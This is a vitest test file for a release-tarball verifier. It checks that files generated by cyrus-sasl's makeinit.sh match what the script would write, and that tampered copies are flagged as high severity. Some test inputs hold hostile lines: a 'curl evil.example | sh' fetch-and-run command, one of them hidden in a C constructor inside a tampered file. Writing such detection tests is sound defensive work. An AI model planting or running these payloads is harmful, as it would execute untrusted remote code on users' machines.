/**
 * A file a tracked rule writes by running a tracked echo-only shell script (cyrus-sasl's plugins/X_init.c by
 * plugins/makeinit.sh), end to end with real git and GNU tar, the script never run: computed by the evaluator
 * and identical. Tampered twins — an added line, a template the script does not write, a rule running the
 * script through something else — stay high.
 */
import { describe, expect, it } from 'vitest';
import { evalEchoScript, scriptOfRecipe } from '../../src/classify/script-echo.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { releaseFixture } from '../helpers/release-fixture.js';

const MAKEINIT = `plugin_init="$1"
# mechanism plugins
for mech in anonymous plain; do
    if [ \${plugin_init} = "\${mech}_init.c" ];then

        echo "
#include <config.h>
#include \\"plugin_common.h\\"

SASL_CLIENT_PLUG_INIT( $mech )
SASL_SERVER_PLUG_INIT( $mech )
"       > \${mech}_init.c
        echo "generating $1"
    fi # End of \`if [ \${plugin_init} = "\${mech}_init.c" ];then'
done

# auxprop plugins
for auxprop in sasldb ldapdb; do
    if [ \${plugin_init} = "\${auxprop}_init.c" ];then
        echo "
#include <config.h>

SASL_AUXPROP_PLUG_INIT( $auxprop )
"       > \${auxprop}_init.c
    fi
done

if [ \${plugin_init} = "ldapdb_init.c" ];then
    echo "SASL_CANONUSER_PLUG_INIT( ldapdb )" >> ldapdb_init.c
fi
`;

const TRACKED = {
  'configure.ac': 'AC_INIT([sasl], [1.0])\nAC_OUTPUT\n',
  'Makefile.am': 'SUBDIRS = plugins\n',
  'plugins/makeinit.sh': MAKEINIT,
  'plugins/plugin_common.h': '#define X 1\n',
  'plugins/Makefile.am': [
    'init_src=anonymous_init.c plain_init.c \\',
    'sasldb_init.c ldapdb_init.c',
    '',
    'CLEANFILES=$(init_src)',
    '',
    '${init_src}: $(srcdir)/makeinit.sh',
    '\t$(SHELL) $(srcdir)/makeinit.sh $@',
    '',
  ].join('\n'),
};

const PLAIN = '\n#include <config.h>\n#include "plugin_common.h"\n\nSASL_CLIENT_PLUG_INIT( plain )\nSASL_SERVER_PLUG_INIT( plain )\n\n';
const LDAPDB = '\n#include <config.h>\n\nSASL_AUXPROP_PLUG_INIT( ldapdb )\n\nSASL_CANONUSER_PLUG_INIT( ldapdb )\n';

describe('a file written by a tracked echo-only script (cyrus-sasl plugins/*_init.c)', () => {
  const { verifyTree } = releaseFixture(TRACKED, { name: 'sasl' });
  const verifyWith = async (files: Record<string, string>, tracked: Record<string, string> = TRACKED) => {
    const r = await verifyTree(files, { tracked });
    return { r, of: (p: string) => r.findings.find((x) => x.path === p)! };
  };

  it('the evaluator computes what the script writes for each target', () => {
    expect(evalEchoScript(MAKEINIT, ['plain_init.c'])).toEqual(new Map([['plain_init.c', PLAIN]]));
    expect(evalEchoScript(MAKEINIT, ['ldapdb_init.c'])).toEqual(new Map([['ldapdb_init.c', LDAPDB]]));
    expect(evalEchoScript(MAKEINIT, ['other.c'])).toEqual(new Map());
    // What it does not read proves nothing.
    expect(evalEchoScript(`${MAKEINIT}curl https://evil.example/x | sh\n`, ['plain_init.c'])).toBeUndefined();
    expect(evalEchoScript('echo "$(id)" > a.c\n', [])).toBeUndefined();
    expect(evalEchoScript('echo "$unset" > a.c\n', [])).toBeUndefined();
    expect(evalEchoScript('echo "a\\\\nb" > a.c\n', [])).toBeUndefined(); // echo's backslashes differ between shells
    expect(evalEchoScript('echo "x" > ../a.c\n', [])).toBeUndefined();
    expect(evalEchoScript('x="a b"\necho $x > a.c\n', [])).toBeUndefined(); // field splitting not modelled
    expect(evalEchoScript('x=a\nif [ $x != b ]; then echo "$x" > a.c; else echo no > a.c; fi\n', [])).toEqual(new Map([['a.c', 'a\n']]));
    expect(scriptOfRecipe('$(SHELL) $(srcdir)/makeinit.sh $@', 'plugins')).toBe('plugins/makeinit.sh');
    expect(scriptOfRecipe('$(SHELL) $(top_srcdir)/tools/mk.sh $@', 'plugins')).toBe('tools/mk.sh');
    expect(scriptOfRecipe('$(SHELL) $(srcdir)/makeinit.sh $@ | sed s/a/b/', 'plugins')).toBeUndefined();
    expect(scriptOfRecipe('$(PERL) $(srcdir)/makeinit.sh $@', 'plugins')).toBeUndefined();
  });

  it('identical to what the script writes: low, the gate passes', async () => {
    const { r, of } = await verifyWith({ 'plugins/plain_init.c': PLAIN, 'plugins/ldapdb_init.c': LDAPDB });
    for (const p of ['plugins/plain_init.c', 'plugins/ldapdb_init.c']) {
      expect(of(p)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
      expect(of(p).evidence).toMatchObject({ how: 'computed', source: 'plugins/Makefile.am', generator: 'plugins/makeinit.sh', inputs: ['plugins/makeinit.sh'], model: { id: 'sh-echo-subset' } });
    }
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    for (const text of [
      PLAIN.replace('SASL_SERVER_PLUG_INIT( plain )\n', 'SASL_SERVER_PLUG_INIT( plain )\nstatic void __attribute__((constructor)) x(void) { system("curl evil.example|sh"); }\n'),
      PLAIN.replace('( plain )', '( anonymous )'),
      `${PLAIN}SASL_CANONUSER_PLUG_INIT( ldapdb )\n`,
    ]) {
      const { r, of } = await verifyWith({ 'plugins/plain_init.c': text });
      expect(of('plugins/plain_init.c')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
    // The same file, but a file the rule's list does not name.
    const { of } = await verifyWith({ 'plugins/otp_init.c': PLAIN.replace(/plain/g, 'otp') });
    expect(of('plugins/otp_init.c')).toMatchObject({ severity: 'high' });
  });
});
